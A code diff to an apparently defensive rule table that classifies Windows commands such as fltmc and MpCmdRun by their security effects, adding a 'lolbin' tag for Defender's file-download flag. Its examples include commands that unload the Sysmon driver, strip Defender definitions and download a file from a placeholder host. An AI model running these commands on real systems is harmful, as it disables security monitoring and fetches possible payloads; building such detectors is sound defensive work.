@@ -68,7 +68,7 @@ export const WINDOWS_DEFENCES = [
   },
   { names: ['fltmc'], grammar: 'windows', subcommands: { unload: { effects: [{ does: 'stop', what: 'service', class: 'security', name: '$1' }] }, detach: { effects: [{ does: 'stop', what: 'service', class: 'security', name: '$1' }] }, '*': {} }, effects: [{ does: 'query', what: 'system', class: 'discovery', name: 'file system filters', when: { max: 0 } }], examples: [['fltmc unload SysmonDrv', ['stop service:security']], ['fltmc.exe', ['query system:discovery']]] },
   {
-    names: ['mpcmdrun'], grammar: 'windows', flags: { '/url': 'url', '/path': 'write', '/downloadfile': 'switch', '/removedefinitions': 'switch', '/all': 'switch', '/scan': 'switch', '/restore': 'switch', '/signatureupdate': 'switch', '/disable': 'switch', '/wdenable': 'switch' },
+    names: ['mpcmdrun'], grammar: 'windows', flags: { '/url': 'url', '/path': 'write', '/downloadfile': 'switch', '/removedefinitions': 'switch', '/all': 'switch', '/scan': 'switch', '/restore': 'switch', '/signatureupdate': 'switch', '/disable': 'switch', '/wdenable': 'switch' }, modes: [{ when: { flags: ['/downloadfile'] }, class: 'lolbin' }],
     effects: [{ does: 'configure', what: 'service', class: 'security', name: 'Microsoft Defender', when: { flags: ['/removedefinitions', '/restore', '/disable'] } }],
     examples: [['MpCmdRun.exe -RemoveDefinitions -All', ['configure service:security']], ['MpCmdRun.exe -DownloadFile -url https://x.example/a -path a.exe', ['receive host', 'write path']], ['MpCmdRun.exe -SignatureUpdate', []]],
   },
